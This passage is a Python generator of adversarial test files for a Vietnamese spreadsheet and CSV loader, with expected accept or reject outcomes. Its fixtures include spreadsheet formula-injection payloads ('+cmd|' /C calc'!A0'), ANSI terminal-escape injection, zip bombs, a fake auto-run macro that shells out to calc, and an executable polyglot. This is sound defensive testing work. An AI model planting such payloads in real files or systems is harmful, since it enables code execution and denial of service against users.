     "data cell training_courses = 44561 with a date format (31/12/2021)", _place(_s, _c), REJECT,
     "Ngày tháng trong ô số lớp (không được thành 44561).", b_date_serial, sheet=_s, cell=_c)
_add("date_cell_iso", "date_cell_iso.xlsx", "values",
     "data cell training_courses = t=\"d\" 2021-12-31T00:00:00", _place(_s, _c), REJECT,
     "Ô kiểu ngày ISO 8601.", b_date_iso, sheet=_s, cell=_c)

_s, _c = where(QUIET_MONEY)
for _raw, _exp, _val, _note in [
    ("0,125", ACCEPT, 0.125, "Số 0 đứng đầu: chỉ có thể là 0,125 triệu đồng; hôm nay đọc thành 125."),
    ("12,500", ACCEPT, 12.5, "Mơ hồ (12,5 hay 12.500). Quy ước tiếng Việt (docstring parse_number): dấu phẩy "
                             "là thập phân → 12,5, kèm cảnh báo tại ô; hôm nay đọc 12500 không cảnh báo."),
    ("1.234", ACCEPT, 1234.0, "Mơ hồ: quy ước tiếng Việt → 1234, nên kèm cảnh báo tại ô."),
]:
    def _b(path: Path, _raw=_raw) -> None:
        bk = Book()
        bk.set_text(*where(QUIET_MONEY), _raw)
        bk.write(path)

    _slug = _raw.replace(",", "c").replace(".", "d")
    _add(f"money_ambiguous_{_slug}", f"money_{_slug}.xlsx", "values",
         f"money cell training_budget (triệu đồng) holds the text '{_raw}'", _place(_s, _c), _exp, _note, _b,
         sheet=_s, cell=_c, check=(QUIET_MONEY, "TOTAL", YEAR, _val))


def b_percent_head(path: Path) -> None:
    bk = Book()
    bk.set_text(*where(QUIET_HEAD), "85%")
    bk.write(path)


_s, _c = where(QUIET_HEAD)
_add("percent_in_head_count", "percent_head_count.xlsx", "values",
     "head count cadre_under35 (người) = '85%'", _place(_s, _c), REJECT,
     "Tỷ lệ phần trăm trong ô số người: hôm nay bỏ dấu % và nhận 85 người.", b_percent_head, sheet=_s, cell=_c)

_ts, _tc = text_cell("II.5")


def b_megabyte_text(path: Path) -> None:
    bk = Book()
    unit = "Ý kiến rất dài, lặp lại. "
    bk.set_text(_ts, _tc, (unit * (1_048_576 // len(unit) + 1))[:1_048_576])
    bk.write(path)


_add("text_answer_1mb", "text_answer_1mb.xlsx", "values",
     "text answer II.5 of 1,048,576 characters (Excel's cell limit is 32,767)", _place(_ts, _tc), REJECT,
     "Quá giới hạn ô của Excel: tệp không do Excel tạo; hôm nay chỉ cảnh báo và lưu cả 1 MB.", b_megabyte_text,
     sheet=_ts, cell=_tc)

CTRL_TEXT = "Ý kiến\x1b[31m ĐỎ\x1b[0m \u202eđảo chiều\u202c NUL:\x00 chuông:\x07 xóa:\x08\x08 hết."
_ts4, _tc4 = text_cell("II.4.4")


def b_ctrl_text(path: Path) -> None:
    bk = Book()
    bk.set_text(_ts4, _tc4, CTRL_TEXT)
    bk.write(path)


_add("text_control_chars", "text_control_chars.xlsx", "values",
     "text answer II.4.4 with ANSI escapes, RTL override, NUL, BEL, BS (written as Excel does: _x001B_ …)",
     _place(_ts4, _tc4), ACCEPT,
     "Nhận, nhưng bỏ/thay ký tự điều khiển (cảnh báo tại ô); không lưu, không in thô ra terminal hay trang web.",
     b_ctrl_text, sheet=_ts4, cell=_tc4, canary="\x1b")


def b_raw_ctrl_xml(path: Path) -> None:
    bk = Book()
    xml = bk.sheet_xml(_ts4)
    xml = re.sub(rf'<c r="{_tc4}"(?: [^>]*?)?(?:/>|>.*?</c>)',
                 f'<c r="{_tc4}" t="inlineStr"><is><t>Tr\u1ea3 l\u1eddi\x1b[2J\x00\x07</t></is></c>', xml, count=1, flags=re.S)
    bk.put_sheet(_ts4, xml)
    bk.write(path)


_add("text_raw_control_bytes_in_xml", "text_raw_control_bytes.xlsx", "values",
     "text answer with raw ESC/NUL/BEL bytes in the XML (not well-formed XML 1.0)", _place(_ts4, _tc4), REJECT,
     "Excel không bao giờ ghi byte điều khiển thô; trình đọc chặt phải từ chối.", b_raw_ctrl_xml, sheet=_ts4,
     cell=_tc4)

FORMULA_TEXTS = {
    "II.1": '=HYPERLINK("http://example.invalid/x?d="&A1,"Bấm vào đây")',
    "II.2": "+cmd|' /C calc'!A0",
    "II.3": "@SUM(1+1)*cmd|' /C calc'!A0",
    "II.4.1": "-1+2",
}


def b_formula_texts(path: Path) -> None:
    bk = Book()
    for q, text in FORMULA_TEXTS.items():
        bk.set_text(*text_cell(q), text)
    bk.write(path)


_add("text_formula_like", "text_formula_like.xlsx", "values",
     "text answers II.1–II.4.1 = '=HYPERLINK(…)', '+cmd|…', '@SUM(…)', '-1+2'", "", ACCEPT,
     "Lưu nguyên văn dạng chữ; mọi bản xuất CSV/Excel phải vô hiệu hóa (thêm ' đầu ô).", b_formula_texts)


def b_meta_unit_ansi(path: Path) -> None:
    bk = Book()
    bk.set_text("_meta", "B2", "LDLD63_38\x1b[2J\x1b[H\x1b]0;pwned\x07")
    bk.write(path)


_add("meta_unit_ansi", "meta_unit_ansi.xlsx", "values",
     "_meta B2 (unit code) = 'LDLD63_38' + clear-screen and set-title escapes", "_meta!B2", REJECT,
     "Mã đơn vị lạ: từ chối tại _meta B2 và không in lại ký tự điều khiển.", b_meta_unit_ansi,
     sheet="_meta", cell="B2", canary="\x1b")


def b_meta_unit_formula(path: Path) -> None:
    bk = Book()
    bk.set_text("_meta", "B2", '=HYPERLINK("http://example.invalid","LDLD63_38")')
    bk.write(path)


_add("meta_unit_formula", "meta_unit_formula.xlsx", "values",
     "_meta B2 (unit code) = '=HYPERLINK(…)'", "_meta!B2", REJECT, "Mã đơn vị dạng công thức.",
     b_meta_unit_formula, sheet="_meta", cell="B2")


# --------------------------------------------------------------------------------------------------
# Memory and time
# --------------------------------------------------------------------------------------------------

def b_xfd(path: Path) -> None:
    bk = Book()
    bk.append_rows(S12, '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>', dimension="A1:XFD1048576")
    bk.write(path)


_add("cell_xfd1048576", "cell_xfd1048576.xlsx", "resources",
     "one value in XFD1048576 of sheet I.1.2 (the last cell of the grid); file ~40 KB", _place(S12, "XFD1048576"),
     ACCEPT, "Một ô lạc ngoài vùng mẫu: bỏ qua (cảnh báo tại ô), không dựng lưới 17 tỷ ô.", b_xfd,
     sheet=S12, cell="XFD1048576")


def b_dimension_only(path: Path) -> None:
    bk = Book()
    xml = re.sub(r'<dimension ref="[^"]+"/>', '<dimension ref="A1:XFD1048576"/>', bk.sheet_xml(S12), count=1)
    bk.put_sheet(S12, xml)
    bk.write(path)


_add("dimension_claims_full_grid", "dimension_full_grid.xlsx", "resources",
     "<dimension ref=\"A1:XFD1048576\"/> on sheet I.1.2 with no far cell", "", ACCEPT,
     "Thẻ dimension chỉ là gợi ý; không cấp phát theo nó.", b_dimension_only)

ROW_UNIT = b"<row><c><v>1</v></c></row>"


def b_sheet_bomb(path: Path) -> None:
    bk = Book()
    part = bk.sheet_part(S12)
    xml = bk.parts[part]
    head, tail = xml.split(b"</sheetData>", 1)
    s = BombStream()
    s.literal(head + ROW_UNIT)
    s.repeat(len(ROW_UNIT), 3354 * 30_000)  # 3.87 million more rows (lcm(258, 26) = 3354)
    s.literal(b" ")
    s.repeat(1, 258 * 2_868_000)             # 740 MB of blanks between rows
    s.literal(b"</sheetData>" + tail)
    raw = s.finish()
    path.write_bytes(build_zip(bk.members(**{part: Member(part, b"", raw=raw, crc=s.crc, size=s.size)})))


_add("zip_bomb_sheet", "zip_bomb_sheet.xlsx", "resources",
     "sheet I.1.2 member: ~0.96 MB of DEFLATE inflating to ~840 MB (3.9 million rows + 740 MB of blanks)",
     WHOLE_FILE, REJECT, "Bom nén: dừng khi vượt giới hạn giải nén, không đọc hết.", b_sheet_bomb)


def b_sst_bomb(path: Path) -> None:
    bk = Book()
    sst = bk.parts["xl/sharedStrings.xml"]
    head, tail = sst.split(b"</sst>", 1)
    unit = b"<si><t>x</t></si>"
    n_small = 4386 // len(unit) * 12_000  # lcm(258, 17) = 4386
    big = 258 * 3_100_000
    m = re.search(rb'count="(\d+)" uniqueCount="(\d+)"', head)
    total = int(m.group(2)) + 1 + n_small + 1
    head = head.replace(m.group(0), f'count="{total}" uniqueCount="{total}"'.encode(), 1)
    s = BombStream()
    s.literal(head + unit)
    s.repeat(len(unit), len(unit) * n_small)
    s.literal(b"<si><t>A")
    s.repeat(1, big)
    s.literal(b"</t></si></sst>" + tail)
    raw = s.finish()
    part = "xl/sharedStrings.xml"
    path.write_bytes(build_zip(bk.members(**{part: Member(part, b"", raw=raw, crc=s.crc, size=s.size)})))


_add("shared_strings_bomb", "shared_strings_bomb.xlsx", "resources",
     "xl/sharedStrings.xml: ~0.9 MB inflating to ~850 MB (3.1 million strings + one 800 MB string)",
     WHOLE_FILE, REJECT, "Bom bảng chuỗi dùng chung.", b_sst_bomb)


def b_sst_count_lie(path: Path) -> None:
    bk = Book()
    sst = bk.text("xl/sharedStrings.xml")
    sst = re.sub(r'count="\d+" uniqueCount="\d+"', 'count="2147483647" uniqueCount="2147483647"', sst, count=1)
    bk.put("xl/sharedStrings.xml", sst)
    bk.write(path)


_add("shared_strings_count_lie", "shared_strings_count_lie.xlsx", "resources",
     "sharedStrings declares uniqueCount=2147483647 (really ~250)", "", ACCEPT,
     "Số đếm khai báo chỉ là gợi ý; không cấp phát trước theo nó (hoặc từ chối rõ ràng).", b_sst_count_lie)


def b_stray_numbers(path: Path) -> None:
    bk = Book()
    rows = "".join(f'<row r="{r}"><c r="F{r}"><v>{r % 997}</v></c></row>' for r in range(40, 40 + 50_000))
    bk.append_rows(S12, rows, dimension=f"A1:F{40 + 50_000 - 1}")
    bk.write(path)


_add("stray_numbers_50k", "stray_numbers_50k.xlsx", "resources",
     "50,000 numbers in column F of sheet I.1.2, rows 40–50039, without row codes", _place(S12, "F40"), ACCEPT,
     "Bỏ qua có cảnh báo; nên gộp thành một cảnh báo (không in 50.000 dòng).", b_stray_numbers,
     sheet=S12, cell="F40")


def _sparse(head: bytes) -> Callable[[Path], None]:
    def b(path: Path) -> None:
        with open(path, "wb") as f:
            f.write(head)
        os.truncate(path, HUGE)
    return b


_add("sparse_1_5gb_xlsx", "sparse_1_5gb.xlsx", "resources",
     "1.5 GiB .xlsx: a valid workbook followed by holes (sparse, ~40 KB on disk)", WHOLE_FILE, REJECT,
     "Phải từ chối theo kích thước (os.stat) trước khi đọc vào bộ nhớ.", lambda p: _sparse(Book().zip())(p), sparse=True)
_add("sparse_1_5gb_csv", "sparse_1_5gb.csv", "resources",
     "1.5 GiB .csv: a valid header and row followed by NUL holes (sparse)", WHOLE_FILE, REJECT,
     "Phải từ chối theo kích thước trước khi đọc.",
     _sparse(b"unit_code,year,sector,indicator_code,value\r\nLDLD63_38,2021,,training_courses,12\r\n"), sparse=True)

_add("empty_xlsx", "empty.xlsx", "resources", "0-byte .xlsx", WHOLE_FILE, REJECT, "Tệp rỗng.",
     lambda p: p.write_bytes(b""))
_add("empty_csv", "empty.csv", "resources", "0-byte .csv", WHOLE_FILE, REJECT, "Tệp rỗng.",
     lambda p: p.write_bytes(b""))
_add("three_bytes_xlsx", "three_bytes.xlsx", "resources", "3-byte .xlsx: b'PK\\x03'", WHOLE_FILE, REJECT,
     "Không phải ZIP hoàn chỉnh.", lambda p: p.write_bytes(b"PK\x03"))
_add("three_bytes_csv", "three_bytes.csv", "resources", "3-byte .csv: only a UTF-8 BOM", WHOLE_FILE, REJECT,
     "Chỉ có BOM: tệp rỗng.", lambda p: p.write_bytes(b"\xef\xbb\xbf"))


def _macro_book() -> bytes:
    bk = Book()
    ct = bk.text("[Content_Types].xml")
    ct = ct.replace("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                    "application/vnd.ms-excel.sheet.macroEnabled.main+xml", 1)
    ct = ct.replace('<Default Extension="xml"',
                    '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default Extension="xml"', 1)
    bk.put("[Content_Types].xml", ct)
    rels = bk.text("xl/_rels/workbook.xml.rels").replace(
        "</Relationships>",
        '<Relationship Id="rId99" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        'Target="vbaProject.bin"/></Relationships>')
    bk.put("xl/_rels/workbook.xml.rels", rels)
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff" + b"\x00" * 482
    bk.put("xl/vbaProject.bin", ole + b"Attribute VB_Name = \"ThisWorkbook\"\r\nSub Workbook_Open(): Shell \"calc\": End Sub\r\n")
    return bk.zip()


_add("macro_xlsm", "macro.xlsm", "resources",
     ".xlsm with a (fake) vbaProject.bin and macro-enabled content type", WHOLE_FILE, REJECT,
     "README chỉ nhận .xlsx, .xls, .csv; không nhận sổ có macro.", lambda p: p.write_bytes(_macro_book()))
_add("macro_renamed_xlsx", "macro_renamed.xlsx", "resources",
     "the same macro-enabled workbook renamed .xlsx", WHOLE_FILE, REJECT,
     "Excel từ chối mở .xlsx có nội dung macro; loader cũng nên từ chối.", lambda p: p.write_bytes(_macro_book()))


def _exe() -> bytes:
    stub = bytearray(b"MZ" + b"\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 46)
    stub[0x3C:0x40] = (0x80).to_bytes(4, "little")
    stub += b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
    stub += b"\x00" * (0x80 - len(stub)) + b"PE\x00\x00" + b"\x4c\x01" + b"\x00" * 1000
    return bytes(stub)


_add("exe_renamed_xlsx", "setup.exe.xlsx", "resources", "a PE executable (MZ…PE) renamed .xlsx", WHOLE_FILE, REJECT,
     "Không phải bảng tính.", lambda p: p.write_bytes(_exe()))
_add("exe_with_appended_zip", "sfx_polyglot.xlsx", "resources",
     "PE stub followed by a valid template ZIP (self-extractor style polyglot)", WHOLE_FILE, REJECT,
     "ZIP đọc được từ cuối tệp nhưng đầu tệp là chương trình: từ chối.", lambda p: p.write_bytes(_exe() + Book().zip()))
_add("html_renamed_xls", "bao_cao.xls", "resources",
     "an HTML table saved as .xls (what many web systems export)", WHOLE_FILE, REJECT,
     "Không phải Excel 97-2003.",
     lambda p: p.write_bytes('<html><body><table><tr><td>LDLD63_38</td><td>2021</td></tr></table></body></html>'.encode()))


def _legacy_xls(error_at: tuple[str, str] | None = None) -> bytes:
    """The base workbook rewritten with xlwt (as in tests/fixtures/make_fixtures.py)."""
    import python_calamine
    import xlwt
    data = Book().zip()
    src = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(data))
    book = xlwt.Workbook(encoding="utf-8")
    for name in src.sheet_names:
        ws = book.add_sheet(name[:31])
        for i, row in enumerate(src.get_sheet_by_name(name).to_python(skip_empty_area=False)):
            for j, v in enumerate(row):
                if error_at and name == error_at[0] and _a1(i, j) == error_at[1]:
                    ws.row(i).set_cell_error(j, "#DIV/0!")
                elif v != "":
                    ws.write(i, j, v)
        if name == "_meta":
            ws.visibility = 1
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def _a1(row: int, col: int) -> str:
    from core.text import a1
    return a1(row, col)


_add("xls_ole_garbage", "corrupt_ole.xls", "resources",
     "OLE2 signature followed by 8 KB of deterministic noise", WHOLE_FILE, REJECT, "OLE hỏng.",
     lambda p: p.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes((i * 131 + 7) % 251 for i in range(8192))))
_add("xls_truncated", "truncated.xls", "resources",
     "a valid Excel 97-2003 workbook cut to half its size", WHOLE_FILE, REJECT, "Tệp .xls bị cắt.",
     lambda p: p.write_bytes((lambda b: b[: len(b) // 2])(_legacy_xls())))
_s, _c = where(QUIET_INT)
_add("xls_error_cell", "error_cell.xls", "values",
     "Excel 97-2003 workbook whose training_courses cell is the error #DIV/0! (BOOLERR record)", _place(_s, _c),
     REJECT, "Lỗi trong .xls phải báo tại ô như .xlsx.", lambda p, at=(_s, _c): p.write_bytes(_legacy_xls(at)),
     sheet=_s, cell=_c)


# --------------------------------------------------------------------------------------------------
# CSV
# --------------------------------------------------------------------------------------------------

VALUE_HEADER = ["unit_code", "year", "sector", "indicator_code", "value"]
TEXT_HEADER = ["unit_code", "round", "question_code", "text"]


def csv_text(rows, header=VALUE_HEADER, delimiter=",") -> str:
    buf = io.StringIO()
    w = csv.writer(buf, delimiter=delimiter, lineterminator="\r\n")
    w.writerow(header)
    w.writerows(rows)
    return buf.getvalue()


def _csv(rows, header=VALUE_HEADER, *, encoding="utf-8", prefix: bytes = b"") -> Callable[[Path], None]:
    def b(path: Path) -> None:
        path.write_bytes(prefix + csv_text(rows, header).encode(encoding))
    return b


def b_unknown_units(path: Path) -> None:
    rows = [[f"Công đoàn không có thật số {i:04d}", YEAR, "", QUIET_INT, "1"] for i in range(5000)]
    path.write_bytes(csv_text(rows).encode("utf-8"))


_add("csv_5000_unknown_units", "unknown_units_5000.csv", "resources",
     "5,000 rows, each with a different unknown unit name", _csv_place(2), REJECT,
     "Một lỗi tóm tắt là đủ; không so từng tên với cả danh mục (O(n·m)).", b_unknown_units, cell="A2", line=2)


def b_million_rows(path: Path) -> None:
    row = f"{UNIT},{YEAR},,x,1\n".encode()
    header = (",".join(VALUE_HEADER) + "\n").encode()
    n = (MAX_CSV - 1 - len(header)) // len(row)  # as many as fit under the size limit: about a million
    path.write_bytes(header + row * n)


_add("csv_1m_rows", "rows_1m.csv", "resources",
     "about 1,000,000 rows 'LDLD63_38,2021,,x,1' (just under the 20 MB limit): 1M unknown indicators",
     _csv_place(2), REJECT, "Một triệu lỗi: nên dừng sau N lỗi đầu và tóm tắt; không in 1 triệu dòng.",
     b_million_rows, cell="D2", line=2)


def _all_keys() -> list[tuple[str, str]]:
    ref = _ref()
    keys = []
    for code, meta in ref.indicator_meta.items():
        if meta["is_input"]:
            keys.append((code, ""))
            if meta["by_sector"]:
                keys.extend((code, s) for s in ref.sector_codes)
    return keys


def b_max_rows_valid_codes(path: Path) -> None:
    keys = _all_keys()
    header = (",".join(VALUE_HEADER) + "\n").encode()
    out = bytearray(header)
    i = 0
    while True:
        code, sector = keys[i % len(keys)]
        year = 2011 + (i // len(keys)) % 10
        line = f"{UNIT},{year},{sector},{code},{1000 + i % 9000}\n".encode()
        if len(out) + len(line) >= MAX_CSV:
            break
        out += line
        i += 1
    path.write_bytes(bytes(out))


_add("csv_max_rows_repeating", "rows_max_20mb.csv", "resources",
     "just under 20 MiB of valid TK2020 rows (2011–2020) cycling through every indicator/sector: ~500k rows, "
     "all but the first 10 years × keys duplicates", _csv_place(10 * len(_all_keys()) + 2), REJECT,
     "Báo từ dòng lặp đầu tiên; không in nửa triệu lỗi, không chậm dần.", b_max_rows_valid_codes,
     cell=f"D{10 * len(_all_keys()) + 2}", line=10 * len(_all_keys()) + 2)


def b_big_field(path: Path) -> None:
    head = csv_text([[UNIT, YEAR, "", QUIET_INT, "12"]])
    opened = f'{UNIT},{YEAR},,{QUIET_INT2},"34\r\n'
    rest = f"{UNIT},{YEAR},,{QUIET_MONEY},5\r\n" * (200 * 1024 // 30)
    path.write_bytes((head + opened + rest).encode("utf-8"))


_add("csv_field_over_128kb", "field_over_128kb.csv", "resources",
     "a stray quote on line 3 opens a field that runs 200 KB to the end of the file", _csv_place(3), REJECT,
     "Trường vượt giới hạn 128 KB của csv: báo dòng mở ngoặc kép, không traceback.", b_big_field, cell="E3", line=3)

for _year in ["0", "10000", "inf"]:
    _add(f"csv_year_{_year}_by_name", f"year_{_year}_by_name.csv", "values",
         f"CSV row for unit NAME 'Thanh Hóa' with year {_year}", _csv_place(2), REJECT,
         "Năm ngoài mọi kỳ; tên đơn vị phải giải theo năm mà không vỡ (date(10000,…)).",
         _csv([["Thanh Hóa", _year, "", QUIET_INT, "12"]]), cell="B2", line=2)

_add("csv_blank_first_line", "blank_first_line.csv", "values",
     "an empty line, then a valid header and row", "", ACCEPT,
     "Dòng trống đầu tệp (hay gặp khi xuất từ hệ thống khác): bỏ qua và nhận.",
     _csv([[UNIT, YEAR, "", QUIET_INT, "123"]], prefix=b"\r\n"), check=(QUIET_INT, "TOTAL", YEAR, 123.0))

_add("csv_utf16", "utf16.csv", "values",
     "a valid value CSV encoded UTF-16 LE with BOM (PowerShell Out-File default)", WHOLE_FILE, ACCEPT,
     "BOM UTF-16 xác định rõ mã: đọc đúng (cảnh báo mã hóa); hôm nay bị đọc thành rác cp1258.",
     _csv([[UNIT, YEAR, "", QUIET_INT, "124"]], encoding="utf-16"), check=(QUIET_INT, "TOTAL", YEAR, 124.0))

_add("csv_nul_byte", "nul_byte.csv", "values", "a NUL byte inside the value of line 2", _csv_place(2), REJECT,
     "NUL trong trường giá trị.", lambda p: p.write_bytes(
         (",".join(VALUE_HEADER) + "\r\n" + f"{UNIT},{YEAR},,{QUIET_INT},12\x0034\r\n").encode()), cell="E2", line=2)

for _raw in ["inf", "NaN", "1e308"]:
    _add(f"csv_value_{_raw.lower()}", f"value_{_raw.lower()}.csv", "values",
         f"CSV value '{_raw}' for {QUIET_INT}", _csv_place(2), REJECT, "Không phải số hợp lệ.",
         _csv([[UNIT, YEAR, "", QUIET_INT, _raw]]), cell="E2", line=2)

_add("csv_unit_formula", "unit_formula.csv", "values",
     "unit_code = '=HYPERLINK(\"http://example.invalid\",\"LDLD63_38\")'", _csv_place(2), REJECT,
     "Tên đơn vị dạng công thức: từ chối; nếu ghi vào nhật ký/báo cáo CSV phải vô hiệu hóa.",
     _csv([['=HYPERLINK("http://example.invalid","LDLD63_38")', YEAR, "", QUIET_INT, "12"]]), cell="A2", line=2)

_add("csv_text_formula_like", "text_formula_like.csv", "values",
     "text CSV answers '=HYPERLINK(…)', '+cmd|…', '@SUM(…)', '-1+2'", "", ACCEPT,
     "Lưu nguyên văn; xuất ra phải vô hiệu hóa công thức.",
     _csv([[UNIT, ROUND, q, t] for q, t in FORMULA_TEXTS.items()], TEXT_HEADER))

NASTY_NAME = "bao cao\n\x1b[31mĐỎ\x1b[0m\x07\r.csv"
_add("file_name_newline_ansi", NASTY_NAME, "values",
     "valid CSV whose file name holds a newline, a CR, ANSI colour escapes and BEL", "", ACCEPT,
     "Nhận; tên tệp in ra/ghi nhật ký phải được làm sạch (không xuống dòng giả, không mã màu).",
     _csv([[UNIT, YEAR, "", QUIET_INT, "125"]]), check=(QUIET_INT, "TOTAL", YEAR, 125.0))


# --------------------------------------------------------------------------------------------------
# Conflicts
# --------------------------------------------------------------------------------------------------

_add("csv_same_cell_code_and_name", "same_cell_code_and_name.csv", "conflicts",
     "training_courses 2021 given on line 2 by code (120) and on line 3 by the unit's name (150)", _csv_place(3),
     REJECT, "Cùng một ô hai giá trị: phải báo trùng ở dòng 3; hôm nay giá trị sau thắng lặng lẽ.",
     _csv([[UNIT, YEAR, "", QUIET_INT, "120"], [UNIT_NAME, YEAR, "", QUIET_INT, "150"]]), cell="D3", line=3)
_add("csv_same_cell_lowercase_code", "same_cell_lowercase_code.csv", "conflicts",
     "training_courses 2021 given by 'LDLD63_38' (120) and by 'ldld63_38' (150)", _csv_place(3), REJECT,
     "Mã viết thường là cùng đơn vị.",
     _csv([[UNIT, YEAR, "", QUIET_INT, "120"], [UNIT.lower(), YEAR, "", QUIET_INT, "150"]]), cell="D3", line=3)
_add("csv_same_question_twice", "same_question_twice.csv", "conflicts",
     "text question II.5 answered twice with different texts", _csv_place(3), REJECT,
     "Hai câu trả lời khác nhau cho cùng câu hỏi; hôm nay câu sau thắng lặng lẽ.",
     _csv([[UNIT, ROUND, "II.5", "Trả lời thứ nhất."], [UNIT, ROUND, "II.5", "Trả lời thứ hai, khác."]], TEXT_HEADER),
     cell="D3", line=3)


def b_xlsx_same_question(path: Path) -> None:
    bk = Book()
    sheet, cell = text_cell("II.5")
    row = int(cell[1:])
    xml = bk.sheet_xml(sheet)
    xml = re.sub(rf'<c r="A{row}"(?: [^>]*?)?(?:/>|>.*?</c>)', f'<c r="A{row}" t="inlineStr"><is><t>II.4.4</t></is></c>',
                 xml, count=1, flags=re.S)
    bk.put_sheet(sheet, xml)
    bk.set_text(sheet, cell, "Một câu trả lời khác cho II.4.4.")
    bk.write(path)


_s, _c = text_cell("II.5")
_add("xlsx_same_question_twice", "same_question_twice.xlsx", "conflicts",
     "the hidden code of the II.5 row changed to II.4.4: question II.4.4 answered twice", _place(_s, _c), REJECT,
     "Hai dòng cùng mã câu hỏi.", b_xlsx_same_question, sheet=_s, cell=_c)


# checks that need the base values (computed lazily so that importing CASES stays cheap)
# Outcomes decided for the loader (README, "Security"), replacing the first guesses of the survey of the old one.
def _decided() -> dict[str, dict]:
    from core.config import settings
    over = settings()["loader"]["max_csv_rows"] + 1  # the line where the row limit is crossed (header included)
    ambiguous = dict(expected=REJECT, note="Số đọc được hai cách trong ô tiền: từ chối, trừ khi tệp đã rõ quy ước.")
    return {
        "sheet_xml_utf16": dict(expected=REJECT, place="I.1.2 Đoàn viên", sheet="I.1.2 Đoàn viên",
                                note="Excel luôn ghi UTF-8: từ chối rõ ràng, nêu trang, không đọc sai."),
        "money_ambiguous_0c125": ambiguous, "money_ambiguous_12c500": ambiguous, "money_ambiguous_1d234": ambiguous,
        "csv_1m_rows": dict(place=_csv_place(over), cell=f"A{over}", line=over),
        "csv_max_rows_repeating": dict(place=_csv_place(over), cell=f"A{over}", line=over),
        "csv_nul_byte": dict(cell="A2"),
        "csv_same_cell_code_and_name": dict(cell="E3"),
        "csv_same_cell_lowercase_code": dict(cell="E3"),
        "csv_field_over_128kb": dict(cell="A3"),
        # names with control characters are not valid XML: the workbook's list of sheets cannot be read at all
        "sheet_name_ansi_nul": dict(place=WHOLE_FILE, sheet=""),
        "sheet_name_ansi_charref": dict(place=WHOLE_FILE, sheet=""),
        # a broken XML text cannot be cut into cells: the sheet is named, with the last good cell in the message
        "text_raw_control_bytes_in_xml": dict(place="Ý kiến, kiến nghị", cell=""),
    }


CASES[:] = [replace(c, **_decided().get(c.name, {})) for c in CASES]

_NEEDS_BASE_CHECK = {"control_valid_xlsx", "sheet_xml_utf16", "xml_namespace_prefix", "xml_attribute_order", "xml_single_quoted_attributes",
                     "formula_cached_attr_order"}


def case_check(case: Case) -> tuple | None:
    """The (indicator, sector, year, value) that must be current after an accepted load, when known."""
    if case.check is not None:
        return case.check
    if case.name in _NEEDS_BASE_CHECK:
        if case.name == "formula_cached_attr_order":
            return (QUIET_INT, "TOTAL", YEAR, base_value(QUIET_INT))
        return _check_member_end()
    return None


# --------------------------------------------------------------------------------------------------
# Building
# --------------------------------------------------------------------------------------------------

BY_NAME = {c.name: c for c in CASES}
assert len(BY_NAME) == len(CASES), "case names must be unique"
assert len({c.file_name for c in CASES}) == len(CASES), "file names must be unique"


def build(case: Case | str, out_dir: Path) -> Path:
    """Write one case's file into out_dir and return its path."""
    case = BY_NAME[case] if isinstance(case, str) else case
    out_dir = Path(out_dir)
    out_dir.mkdir(parents=True, exist_ok=True)
    path = out_dir / case.file_name
    if path.exists():
        path.unlink()
    case.build(path)
    return path


def generate(out_dir: Path, names: list[str] | None = None, *, verbose: bool = False) -> dict[str, Path]:
    """Write every case (or the named ones) into out_dir; returns {case name: path}."""
    out = {}
    for case in CASES if not names else [BY_NAME[n] for n in names]:
        t = time.perf_counter()
        out[case.name] = build(case, out_dir)
        if verbose:
            st = out[case.name].stat()
            print(f"{case.name:40s} {st.st_size:>14,d} B  {st.st_blocks * 512:>12,d} B on disk  "
                  f"{time.perf_counter() - t:6.2f} s", file=sys.stderr)
    return out


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("out_dir", nargs="?", help="folder to write the corpus into")
    p.add_argument("--only", nargs="+", metavar="NAME", help="only these cases")
    p.add_argument("--list", action="store_true", help="list the cases and exit")
    p.add_argument("-v", "--verbose", action="store_true")
    args = p.parse_args(argv)
    if args.list:
        for c in CASES:
            print(f"{c.name}\t{c.expected}\t{c.place or '-'}\t{c.file_name!r}\t{c.attack}")
        print(f"{len(CASES)} cases", file=sys.stderr)
        return 0
    if not args.out_dir:
        p.error("out_dir is required")
    t = time.perf_counter()
    paths = generate(Path(args.out_dir), args.only, verbose=args.verbose)
    size = sum(p.stat().st_size for p in paths.values())
    disk = sum(p.stat().st_blocks * 512 for p in paths.values())
    print(f"{len(paths)} files in {args.out_dir}: {size / 1e6:,.1f} MB apparent, {disk / 1e6:,.1f} MB on disk, "
          f"{time.perf_counter() - t:.1f} s")
    return 0


if __name__ == "__main__":
    sys.exit(main())

